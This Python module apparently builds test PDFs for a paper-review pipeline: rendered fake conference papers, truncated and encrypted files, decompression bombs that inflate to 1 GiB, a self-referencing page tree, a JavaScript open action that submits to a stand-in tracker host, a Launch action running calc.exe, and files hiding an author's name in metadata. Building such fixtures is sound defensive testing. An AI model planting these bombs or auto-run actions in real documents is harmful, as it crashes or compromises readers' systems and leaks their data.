"""Builders of real PDF files for the PDF pipeline tests and the benchmark.

Papers are rendered with WeasyPrint (a two-column, MLSys-like layout); hostile files are written
with pypdf or byte by byte. Everything is cached per process because WeasyPrint is slow (~1.5 s
for 12 pages): call the builders freely, they return ``bytes``.
"""

import functools
import html
import io
import zlib

import pypdf
from pypdf.generic import ArrayObject, DictionaryObject, NameObject, NumberObject, TextStringObject

SIZES = {"letter": ("8.5in", "11in"), "a4": ("210mm", "297mm")}

_WORDS = str.split(
    "we present a compiler that schedules tensor programs across accelerators while the "
    "runtime overlaps communication with computation and the training throughput improves "
    "by a large factor on clusters of graphics processors our evaluation covers language "
    "models recommendation models and vision transformers under realistic memory budgets"
)

SECTIONS = [
    "Introduction",
    "Background and Motivation",
    "Design",
    "Implementation",
    "Evaluation",
    "Scalability",
    "Discussion",
    "Related Work",
    "Limitations",
    "Case Studies",
    "Ablations",
    "Conclusion",
]


def _text(n_words: int, seed: int) -> str:
    return " ".join(_WORDS[(seed * 7 + i * 3 + i // 5) % len(_WORDS)] for i in range(n_words))


@functools.lru_cache(maxsize=64)
def paper(
    *,
    pages: int = 4,
    font_pt: float = 10,
    columns: int = 2,
    paper_size: str = "letter",
    authors: tuple[tuple[str, str, str], ...] = (),
    meta_author: str = "",
    references: bool = True,
    appendix_pages: int = 0,
    hidden_text: str = "",
    acknowledgements: str = "",
) -> bytes:
    """A paper with exactly ``pages`` pages of main text, then a References page (if
    ``references``) and ``appendix_pages`` appendix pages.

    ``authors`` are (name, affiliation, email) printed under the title; ``meta_author`` goes into
    the PDF's /Author; ``hidden_text`` is printed in white; ``acknowledgements`` adds that section.
    """
    width, height = SIZES[paper_size]
    line_pt = font_pt * 1.2
    # Letter text block 7in x 9in; A4 a little narrower and taller.
    block_h_in = 9.0 if paper_size == "letter" else 9.6
    block_w_in = 7.0 if paper_size == "letter" else 6.8
    col_w_pt = (block_w_in * 72 - (columns - 1) * 18) / columns
    lines = int(block_h_in * 72 / line_pt) * columns
    words_per_line = col_w_pt / (font_pt * 2.9)
    # Fill ~75% of a page so that each page's text never spills onto the next page.
    words = int(lines * words_per_line * 0.75)

    parts = []
    title_lines = 8 if authors else 4
    byline = "".join(
        f'<div class="au">{html.escape(n)}<br>{html.escape(a)}<br>{html.escape(e)}</div>'
        for n, a, e in authors
    )
    parts.append(
        '<h1 class="title">Overlapping Communication and Computation in Tensor Compilers</h1>'
        f'<div class="byline">{byline or "Anonymous Authors"}</div>'
    )
    for p in range(pages):
        body_words = words - (title_lines * int(words_per_line) * columns if p == 0 else 0)
        paras = []
        if p == 0:
            paras.append("<h2>Abstract</h2>")
        paras.append(f"<h2>{p + 1} {SECTIONS[p % len(SECTIONS)]}</h2>")
        for k in range(4):
            paras.append(f"<p>{_text(max(body_words // 4, 10), p * 4 + k)}.</p>")
        if p == 0 and hidden_text:
            paras.append(f'<p class="hidden">{html.escape(hidden_text)}</p>')
        if p == pages - 1 and acknowledgements:
            paras.append(f"<h2>Acknowledgements</h2><p>{html.escape(acknowledgements)}</p>")
        parts.append(f'<div class="cols page">{"".join(paras)}</div>')
    if references:
        refs = "".join(
            f"<li>A. Writer and B. Reader. Paper number {i}. In Proc. MLSys, 20{i:02d}.</li>"
            for i in range(1, 16)
        )
        parts.append(f'<div class="cols page"><h2>References</h2><ol>{refs}</ol></div>')
    for a in range(appendix_pages):
        head = "<h2>Appendix A: Additional results</h2>" if a == 0 else ""
        parts.append(f'<div class="cols page">{head}<p>{_text(words // 2, 99 + a)}.</p></div>')

    css = f"""
    @page {{ size: {width} {height};
             margin: {(11 if paper_size == "letter" else 11.69) / 2 - block_h_in / 2}in
                     {(8.5 if paper_size == "letter" else 8.27) / 2 - block_w_in / 2}in;
             @top-center {{ content: "Under review at MLSys 2027. Do not distribute.";
                           font: 8pt "Liberation Serif"; }}
             @bottom-center {{ content: counter(page); font: 8pt "Liberation Serif"; }} }}
    body {{ font: {font_pt}pt/{line_pt}pt "Liberation Serif"; margin: 0; }}
    .cols {{ column-count: {columns}; column-gap: 18pt; column-fill: auto; }}
    .page {{ break-after: page; }}
    .page:last-child {{ break-after: auto; }}
    h1 {{ font-size: 14pt; line-height: 18pt; text-align: center; margin: 0 0 6pt; }}
    h2 {{ font-size: {font_pt + 1}pt; line-height: {line_pt}pt; margin: 0; }}
    p {{ margin: 0 0 {line_pt}pt; text-align: justify; }}
    ol {{ margin: 0; padding-left: 14pt; }}
    .byline {{ text-align: center; margin-bottom: 12pt; }}
    .au {{ display: inline-block; margin: 0 12pt; }}
    .hidden {{ color: white; }}
    """
    meta = f'<meta name="author" content="{html.escape(meta_author)}">' if meta_author else ""
    doc = (
        f"<!doctype html><html><head><title>Overlapping Communication</title>{meta}"
        f"<style>{css}</style></head><body>{''.join(parts)}</body></html>"
    )
    from weasyprint import HTML

    return HTML(string=doc).write_pdf()


# --- Hostile files ---------------------------------------------------------------------------

NOT_A_PDF = b"<!DOCTYPE html>\n<html><head><title>paper.pdf</title></head><body>Hi</body></html>\n"
EMPTY = b""


def truncated() -> bytes:
    """A valid one-page paper cut after its first 30% of bytes."""
    data = paper(pages=1, references=False)
    return data[: len(data) * 3 // 10]


def _writer_from(data: bytes) -> pypdf.PdfWriter:
    return pypdf.PdfWriter(clone_from=pypdf.PdfReader(io.BytesIO(data)))


def _bytes(writer: pypdf.PdfWriter) -> bytes:
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


@functools.lru_cache(maxsize=1)
def encrypted_user_password() -> bytes:
    writer = _writer_from(paper(pages=1, references=False))
    writer.encrypt(user_password="secret", owner_password="owner-secret", algorithm="AES-128")
    return _bytes(writer)


@functools.lru_cache(maxsize=1)
def encrypted_owner_only() -> bytes:
    """Opens without a password (empty user password); only editing needs the owner password."""
    writer = _writer_from(paper(pages=1, references=False))
    writer.encrypt(user_password="", owner_password="owner-secret", algorithm="AES-128")
    return _bytes(writer)


def _assemble(objects: list[bytes], root: int = 1) -> bytes:
    """A PDF from raw object bodies (object i+1 = objects[i]) with a correct xref table."""
    out = bytearray(b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n")
    offsets = []
    for number, body in enumerate(objects, start=1):
        offsets.append(len(out))
        out += b"%d 0 obj\n" % number + body + b"\nendobj\n"
    xref = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1)
    for offset in offsets:
        out += b"%010d 00000 n \n" % offset
    out += b"trailer\n<< /Size %d /Root %d 0 R >>\nstartxref\n%d\n%%%%EOF\n" % (
        len(objects) + 1,
        root,
        xref,
    )
    return bytes(out)


def _stream(data: bytes, extra: bytes = b"") -> bytes:
    return b"<< /Length %d %s >>\nstream\n" % (len(data), extra) + data + b"\nendstream"


def page_tree_loop() -> bytes:
    """The page tree's only kid is the page tree itself."""
    return _assemble(
        [
            b"<< /Type /Catalog /Pages 2 0 R >>",
            b"<< /Type /Pages /Kids [2 0 R] /Count 1 >>",
        ]
    )


@functools.lru_cache(maxsize=1)
def _zeros_bomb() -> bytes:
    """1 GiB of zero bytes, FlateDecode'd twice: about 2.5 KB on disk.

    Built from one raw deflate block of 1 MiB of zeros repeated 1024 times (a full flush makes
    each block identical) plus the Adler-32 of 1 GiB of zeros, so it takes milliseconds.
    """
    compressor = zlib.compressobj(9, zlib.DEFLATED, -15)
    block = compressor.compress(bytes(1 << 20)) + compressor.flush(zlib.Z_FULL_FLUSH)
    raw = block * 1024 + compressor.flush(zlib.Z_FINISH)
    adler = (((1 << 30) % 65521) << 16) | 1
    inner = b"\x78\xda" + raw + adler.to_bytes(4, "big")
    return zlib.compress(inner, 9)


def _font_page(content: bytes, extra: bytes = b"") -> list[bytes]:
    return [
        b"<< /Type /Catalog /Pages 2 0 R " + extra + b">>",
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents 4 0 R"
        b" /Resources << /Font << /F1 5 0 R >> >> >>",
        content,
        b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>",
    ]


def content_bomb() -> bytes:
    """A one-page PDF whose content stream inflates to 1 GiB of zeros."""
    return _assemble(
        _font_page(_stream(_zeros_bomb(), b"/Filter [/FlateDecode /FlateDecode]")),
    )


def xmp_bomb() -> bytes:
    """A small valid page, with XMP metadata that inflates to 1 GiB."""
    objects = _font_page(
        _stream(b"BT /F1 12 Tf 72 700 Td (Hello) Tj ET"), extra=b"/Metadata 6 0 R "
    )
    objects.append(
        _stream(_zeros_bomb(), b"/Type /Metadata /Subtype /XML /Filter [/FlateDecode /FlateDecode]")
    )
    return _assemble(objects)


def page_xmp_bomb() -> bytes:
    """A small valid page whose own XMP metadata (not the catalog's) inflates to 1 GiB."""
    objects = _font_page(_stream(b"BT /F1 12 Tf 72 700 Td (Hello) Tj ET"))
    objects[2] = objects[2][:-2] + b" /Metadata 6 0 R >>"
    objects.append(
        _stream(_zeros_bomb(), b"/Type /Metadata /Subtype /XML /Filter [/FlateDecode /FlateDecode]")
    )
    return _assemble(objects)


def broken_ptex_reference() -> bytes:
    """A valid page whose font carries a PTEX.InfoDict pointing at an object that is not there."""
    objects = _font_page(_stream(b"BT /F1 12 Tf 72 700 Td (Hello) Tj ET"))
    objects[4] = b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica /PTEX.InfoDict 99 0 R >>"
    return _assemble(objects)


@functools.lru_cache(maxsize=2)
def many_pages(count: int = 2001) -> bytes:
    writer = pypdf.PdfWriter()
    for _ in range(count):
        writer.add_blank_page(612, 792)
    return _bytes(writer)


@functools.lru_cache(maxsize=1)
def javascript_open_action() -> bytes:
    writer = _writer_from(paper(pages=1, references=False))
    action = DictionaryObject(
        {
            NameObject("/S"): NameObject("/JavaScript"),
            NameObject("/JS"): TextStringObject("this.submitForm('https://tracker.example/');"),
        }
    )
    writer._root_object[NameObject("/OpenAction")] = writer._add_object(action)
    return _bytes(writer)


@functools.lru_cache(maxsize=1)
def launch_action() -> bytes:
    writer = _writer_from(paper(pages=1, references=False))
    action = DictionaryObject(
        {NameObject("/S"): NameObject("/Launch"), NameObject("/F"): TextStringObject("calc.exe")}
    )
    annotation = DictionaryObject(
        {
            NameObject("/Type"): NameObject("/Annot"),
            NameObject("/Subtype"): NameObject("/Link"),
            NameObject("/Rect"): ArrayObject([NumberObject(n) for n in (72, 72, 200, 100)]),
            NameObject("/A"): writer._add_object(action),
        }
    )
    writer.pages[0][NameObject("/Annots")] = ArrayObject([writer._add_object(annotation)])
    return _bytes(writer)


@functools.lru_cache(maxsize=1)
def embedded_file() -> bytes:
    writer = _writer_from(paper(pages=1, references=False))
    writer.add_attachment("results.csv", b"model,accuracy\nours,0.99\n")
    return _bytes(writer)


def with_metadata(data: bytes, **info: str) -> bytes:
    """``data`` with document-info entries set, e.g. ``Author="Ada Lovelace"``."""
    writer = _writer_from(data)
    writer.add_metadata({f"/{key}": value for key, value in info.items()})
    return _bytes(writer)


# --- Identities outside the page text (issue 8) ---------------------------------------------

AUTHOR_XMP = (
    b'<?xpacket begin="" id="W5M0MpCehiHzreSzNTczkc9d"?>'
    b'<x:xmpmeta xmlns:x="adobe:ns:meta/"><rdf:RDF '
    b'xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#">'
    b'<rdf:Description xmlns:dc="http://purl.org/dc/elements/1.1/">'
    b"<dc:creator><rdf:Seq><rdf:li>Ada Lovelace</rdf:li></rdf:Seq></dc:creator>"
    b"</rdf:Description></rdf:RDF></x:xmpmeta>"
    b'<?xpacket end="w"?>'
)


def _rect(*numbers: int) -> ArrayObject:
    return ArrayObject([NumberObject(n) for n in numbers])


def _add_annotation(writer: pypdf.PdfWriter, page: int, annotation: DictionaryObject):
    ref = writer._add_object(annotation)
    target = writer.pages[page]
    annots = target.get("/Annots")
    annots = annots.get_object() if annots is not None else ArrayObject()
    annots.append(ref)
    target[NameObject("/Annots")] = annots
    return ref


@functools.lru_cache(maxsize=1)
def hidden_identities() -> bytes:
    """A paper whose text is anonymous but whose file names Ada Lovelace in places the
    reviewers' copy must remove: a sticky note's author (page 2), XMP on an included figure,
    pdfTeX's PTEX.InfoDict and PTEX.FileName of that figure, a custom document-info key, and
    an embedded file whose description names her."""
    from pypdf.generic import DecodedStreamObject

    writer = _writer_from(paper(pages=2))
    writer.add_metadata({"/Company": "Ada Lovelace"})
    xmp = DecodedStreamObject()
    xmp.set_data(AUTHOR_XMP)
    xmp[NameObject("/Type")] = NameObject("/Metadata")
    xmp[NameObject("/Subtype")] = NameObject("/XML")
    figure = DecodedStreamObject()
    figure.set_data(b"0 0 1 rg 0 0 10 10 re f")
    figure.update(
        {
            NameObject("/Type"): NameObject("/XObject"),
            NameObject("/Subtype"): NameObject("/Form"),
            NameObject("/BBox"): _rect(0, 0, 10, 10),
            NameObject("/Metadata"): writer._add_object(xmp),
            NameObject("/PTEX.FileName"): TextStringObject("/home/alovelace/figures/plot.pdf"),
            NameObject("/PTEX.InfoDict"): writer._add_object(
                DictionaryObject({NameObject("/Author"): TextStringObject("Ada Lovelace")})
            ),
        }
    )
    resources = writer.pages[0]["/Resources"].get_object()
    xobjects = resources.get("/XObject")
    xobjects = xobjects.get_object() if xobjects is not None else DictionaryObject()
    xobjects[NameObject("/Fig1")] = writer._add_object(figure)
    resources[NameObject("/XObject")] = xobjects
    _add_annotation(
        writer,
        1,
        DictionaryObject(
            {
                NameObject("/Type"): NameObject("/Annot"),
                NameObject("/Subtype"): NameObject("/Text"),
                NameObject("/Rect"): _rect(72, 72, 92, 92),
                NameObject("/T"): TextStringObject("Ada Lovelace"),
                NameObject("/Contents"): TextStringObject("Shorten this section."),
            }
        ),
    )
    writer.add_attachment("results.csv", b"model,accuracy\nours,0.99\n")
    names = writer.root_object["/Names"].get_object()["/EmbeddedFiles"].get_object()
    spec = names["/Names"][1].get_object()
    spec[NameObject("/Desc")] = TextStringObject("Raw results of Ada Lovelace")
    return _bytes(writer)


@functools.lru_cache(maxsize=1)
def visible_identities() -> bytes:
    """A paper whose text is anonymous but that names Ada Lovelace where reviewers still see
    her: a bookmark title, a comment's text (page 1) and a filled-in form field (page 2)."""
    writer = _writer_from(paper(pages=2))
    writer.add_outline_item(title="Notes by Ada Lovelace", page_number=0)
    _add_annotation(
        writer,
        0,
        DictionaryObject(
            {
                NameObject("/Type"): NameObject("/Annot"),
                NameObject("/Subtype"): NameObject("/Text"),
                NameObject("/Rect"): _rect(72, 72, 92, 92),
                NameObject("/Contents"): TextStringObject("Ada Lovelace: shorten this."),
            }
        ),
    )
    field = _add_annotation(
        writer,
        1,
        DictionaryObject(
            {
                NameObject("/Type"): NameObject("/Annot"),
                NameObject("/Subtype"): NameObject("/Widget"),
                NameObject("/FT"): NameObject("/Tx"),
                NameObject("/T"): TextStringObject("corresponding"),
                NameObject("/V"): TextStringObject("Ada Lovelace"),
                NameObject("/Rect"): _rect(72, 100, 272, 120),
            }
        ),
    )
    writer.root_object[NameObject("/AcroForm")] = writer._add_object(
        DictionaryObject({NameObject("/Fields"): ArrayObject([field])})
    )
    return _bytes(writer)
